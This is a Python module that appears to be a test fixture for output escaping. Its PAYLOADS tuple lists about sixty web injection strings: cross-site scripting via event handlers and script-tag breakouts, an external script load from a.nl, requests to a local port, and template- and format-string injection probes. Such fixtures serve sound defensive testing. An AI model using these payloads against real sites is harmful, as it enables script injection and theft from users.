"""Sixty texts that try to become something else than text on a page."""

from __future__ import annotations

CALL = "alert(1)"
PAYLOADS = (
    *(f"<{tag} {event}={CALL}>" for tag, event in (
        ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"), ("video src=x", "onerror"),
        ("audio src=x", "onerror"), ("details open", "ontoggle"), ("marquee", "onstart"), ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"), ("object data=x", "onerror"), ("iframe", "onload"),
    )),
    f"<script>{CALL}</script>", "<script src=//a.nl/x.js></script>", f"</script><script>{CALL}</script>", f"<SCRIPT>{CALL}</SCRIPT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<script>{CALL}//", f"<script/x>{CALL}</script>", f"<!--><script>{CALL}</script>",
    f"--><script>{CALL}</script>", f"<![CDATA[<script>{CALL}</script>]]>", f"</style><script>{CALL}</script>",
    f"</title><script>{CALL}</script>", f"</textarea><script>{CALL}</script>", f"</svg><script>{CALL}</script>",
    f"\"><script>{CALL}</script>", f"'><script>{CALL}</script>", f"\" onmouseover={CALL} x=\"", f"' onmouseover={CALL} x='",
    f"\" autofocus onfocus={CALL} x=\"", f"`onmouseover={CALL}", f"javascript:{CALL}", f"<a href=javascript:{CALL}>x</a>",
    f"<a href=\"data:text/html,<script>{CALL}</script>\">x</a>", f"<iframe src=javascript:{CALL}>",
    f"<iframe srcdoc='<script>{CALL}</script>'>",
    "<img src=http://127.0.0.1:9/x>", "<link rel=stylesheet href=http://127.0.0.1:9/x>", "<base href=http://127.0.0.1:9/>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'>", "<style>@import 'http://127.0.0.1:9/x';</style>",
    "<form action=http://127.0.0.1:9/><input type=submit>", "<embed src=http://127.0.0.1:9/x>",
    f"{{{{{CALL}}}}}", "{{7*7}}", "{% for x in y %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0}{name}", "%s%n%x",
    "&lt;script&gt;", "&#60;script&#62;", "\u2028\u2029<b>", "\\u003cscript\\u003e", "<b>bold</b>", "<math><mi xlink:href=javascript:x>",
    "<a href='http://127.0.0.1:9'>hier</a><br>", "</h1></header></main></body></html><p id=mine>",
)  # fmt: skip
